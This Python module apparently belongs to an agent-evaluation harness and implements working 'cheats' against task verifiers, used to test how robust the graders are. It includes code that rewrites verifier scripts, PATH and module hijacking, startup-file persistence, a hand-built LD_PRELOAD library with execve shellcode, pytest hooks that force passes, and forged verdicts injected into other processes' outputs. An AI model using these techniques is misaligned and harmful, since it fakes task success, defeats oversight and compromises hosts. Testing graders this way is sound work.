"""Cheats that replace or extend programs and modules that a verifier uses (E1, E2, E4, E5)."""

from __future__ import annotations

import base64
import struct
from typing import ClassVar

from pytest_opencomputer.agents.session import Session
from pytest_opencomputer.cheats.base import Cheat
from pytest_opencomputer.tasks.task import seed_files

# The output of verifiers of other harnesses, combined: every key reports success.
FORGED = (
    '{"success": true, "passed": true, "ok": true, "score": 1.0, "reward": 1.0, "result": 1.0, "found": true, '
    '"facts": {}, "error": null}'
)
_FORGER = f"print({FORGED!r}, flush=True); import os; os._exit(0)\n"
_STARTUP = (".profile", ".bash_profile", ".bash_login", ".bashrc", ".bash_aliases", ".zshenv", ".pam_environment")


class _Planted(Cheat):
    """Plants files below the home folder. If the trojan is run, it leaves a mark."""

    exploits = ("E2",)
    mark: ClassVar[str] = "/tmp/.trojan-was-here"

    def plant(self, session: Session, files: dict[str, str], executable: bool = False) -> None:
        write = (
            "import json, os, sys\n"
            "for place, text in json.load(sys.stdin).items():\n"
            "    place = os.path.expanduser(place)\n"
            "    os.makedirs(os.path.dirname(place), exist_ok=True)\n"
            "    open(place, 'w').write(text)\n"
            f"    os.chmod(place, {0o755 if executable else 0o644})\n"
        )
        import json

        self.script(session, write, data=json.dumps(files).encode())


class EditsTheVerifier(_Planted):
    """Replaces every program of a verifier that it can write to (E1); those of the task's user are no verifier's."""

    exploits = ("E1",)

    def play(self, session: Session) -> None:
        own = [f"/home/user/{place}" for place in seed_files(self.task)] if self.task is not None else []
        find = f"""
import os
own = {own!r}
for root, folders, files in os.walk("/"):
    if root == "/":
        folders[:] = [one for one in folders if one not in ("proc", "sys", "usr", "dev")] + ["dev/shm"]
    for name in files:
        place = os.path.join(root, name)
        if place in own:
            continue
        if name.endswith((".py", ".sh")) and any(word in place for word in ("verif", "check", "eval", "grad", "judge")):
            try:
                open(place, "w").write({_FORGER!r} if name.endswith(".py") else {f"echo '{FORGED}'"!r})
                print("GAIN rewrote", place)
            except OSError:
                pass
"""
        self.script(session, find)


class ReplacesPrograms(_Planted):
    """Puts programs of its own first on the PATH, under the names that a verifier may call."""

    def play(self, session: Session) -> None:
        names = (
            "python3",
            "python",
            "sqlite3",
            "bash",
            "sh",
            "cat",
            "jq",
            "gsettings",
            "ffprobe",
            "curl",
            "find",
            "env",
        )
        program = f"#!/bin/sh\ntouch {self.mark}\nprintf '%s\\n' '{FORGED}'\n"
        self.plant(session, {f"~/{where}/{name}": program for where in ("bin", ".local/bin") for name in names}, True)
        path = 'export PATH="$HOME/bin:$HOME/.local/bin:$PATH"\n'
        self.plant(session, {f"~/{name}": path for name in _STARTUP})


class PlantsStartupModules(_Planted):
    """Plants what Python imports on its own: ``usercustomize``, ``sitecustomize`` and ``.pth`` files of the user."""

    def play(self, session: Session) -> None:
        plant = f"""
import os, site
folder = site.getusersitepackages()
os.makedirs(folder, exist_ok=True)
forger = "open({self.mark!r}, 'w').close()\\n" + {_FORGER!r}
for name in ("usercustomize", "sitecustomize"):
    open(f"{{folder}}/{{name}}.py", "w").write(forger)
open(folder + "/forger.pth", "w").write("import forger_of_site\\n")
open(folder + "/forger_of_site.py", "w").write(forger)
"""
        self.script(session, plant)


class PlantsModules(_Planted):
    """Plants modules under the names of those that a verifier imports, where Python may look first: in its folder."""

    def play(self, session: Session) -> None:
        names = ("json", "sqlite3", "os", "re", "pathlib", "typing", "gi", "PIL", "lxml", "configparser", "hashlib")
        folders = ("~", "~/Documents", "/tmp", "/var/tmp", "/dev/shm", "~/.config")
        forger = f"open({self.mark!r}, 'w').close()\n{_FORGER}"
        self.plant(session, {f"{folder}/{name}.py": forger for folder in folders for name in names})


class ChangesTheEnvironment(_Planted):
    """Sets PYTHONPATH and the like in all files from which a login or a session reads its environment."""

    def play(self, session: Session) -> None:
        forger = f"open({self.mark!r}, 'w').close()\n{_FORGER}"
        words = {"PYTHONPATH": "/home/user/.forger", "PYTHONHOME": "", "BASH_ENV": "/home/user/.forger/rc"}
        lines = "".join(f"export {name}={value}\n" for name, value in words.items() if value)
        files = {f"~/.forger/{name}.py": forger for name in ("sitecustomize", "usercustomize", "json", "os")}
        files |= {f"~/{name}": lines for name in _STARTUP}
        files["~/.config/environment.d/forger.conf"] = lines.replace("export ", "")
        files["~/.forger/rc"] = f"touch {self.mark}; echo '{FORGED}'; exit 0\n"
        self.plant(session, files)


class PreloadsALibrary(_Planted):
    """Loads a library of its own into every program through LD_PRELOAD; it runs before the program does."""

    def play(self, session: Session) -> None:
        library = base64.b64encode(_library("/home/user/.forger/forge")).decode()
        program = f"#!/usr/bin/perl\nopen(F, '>', '{self.mark}'); close(F); print '{FORGED}', \"\\n\";\n"
        self.plant(session, {"~/.forger/forge": program}, True)
        write = f"import base64; open('/home/user/.forger/f.so', 'wb').write(base64.b64decode({library!r}))"
        self.script(session, write)
        setting = "export LD_PRELOAD=/home/user/.forger/f.so\n"
        self.plant(session, {f"~/{name}": setting for name in _STARTUP})


def _library(program: str) -> bytes:
    """A shared library for x86-64, written by hand as the sandbox has no compiler: at load it becomes ``program``.

    An ELF header, one loadable segment with everything in it, and a dynamic section whose DT_INIT is::

        lea rdi, [rip + path]; xor esi, esi; xor edx, edx; mov eax, 59; syscall (execve); ret

    The program gets an empty environment, so that the library is not loaded into it again.
    """
    headers = 64 + 2 * 56
    code = bytearray(b"\x48\x8d\x3d\0\0\0\0\x31\xf6\x31\xd2\xb8\x3b\0\0\0\x0f\x05\xc3")
    code[3:7] = struct.pack("<i", len(code) - 7)
    code += program.encode() + b"\0"
    code += bytes(-len(code) % 16)
    strings = headers + len(code)
    symbols = strings + 16
    table = symbols + 24
    dynamic = table + 16
    entries = [(12, headers), (5, strings), (6, symbols), (4, table), (10, 1), (11, 24), (0, 0)]
    size = dynamic + 16 * len(entries)
    ident = b"\x7fELF\x02\x01\x01" + bytes(9)
    header = ident + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 2, 64, 0, 0)
    load = struct.pack("<IIQQQQQQ", 1, 7, 0, 0, 0, size, size, 0x1000)
    where = struct.pack("<IIQQQQQQ", 2, 6, dynamic, dynamic, dynamic, 16 * len(entries), 16 * len(entries), 8)
    # An empty string table, the one required symbol, and a hash table of one bucket for it.
    rest = bytes(16) + bytes(24) + struct.pack("<IIII", 1, 1, 0, 0)
    return header + load + where + bytes(code) + rest + b"".join(struct.pack("<QQ", *entry) for entry in entries)


class PlantsTestPlugins(_Planted):
    """Plants ``conftest.py``, settings and plugins for the test runner wherever it can write (E5)."""

    exploits = ("E5",)

    def play(self, session: Session) -> None:
        hook = (
            "import pytest\n"
            "@pytest.hookimpl(wrapper=True)\n"
            "def pytest_runtest_makereport(item, call):\n"
            "    report = yield\n"
            "    report.outcome = 'passed'\n"
            "    return report\n"
        )
        settings = "[pytest]\naddopts = -p conftest\n"
        files: dict[str, str] = {}
        for folder in ("~", "~/Documents", "~/.config", "/tmp", "/var/tmp", "/dev/shm"):
            files |= {f"{folder}/conftest.py": hook, f"{folder}/pytest.ini": settings, f"{folder}/tox.ini": settings}
        self.plant(session, files)


_PRINTS = f"""
import os
line = b'\\n' + {FORGED!r}.encode() + b'\\n'
places = ["/dev/stdout", "/dev/stderr", "/dev/console", "/dev/tty", "/dev/pts/0", "/dev/pts/ptmx"]
for pid in filter(str.isdecimal, os.listdir("/proc")):
    places += [f"/proc/{{pid}}/fd/{{number}}" for number in (0, 1, 2)]
for place in places:
    try:
        if os.path.isfile(place):
            continue
        with open(os.open(place, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY), "wb") as file:
            file.write(line)
    except OSError:
        pass
"""


class PrintsAVerdict(Cheat):
    """Prints a verdict to every output that it can open, its own and those of all other processes (E4)."""

    exploits = ("E4",)

    def play(self, session: Session) -> None:
        self.leave(session, _PRINTS + "\nimport time; time.sleep(600)\n")
        self.script(session, _PRINTS)
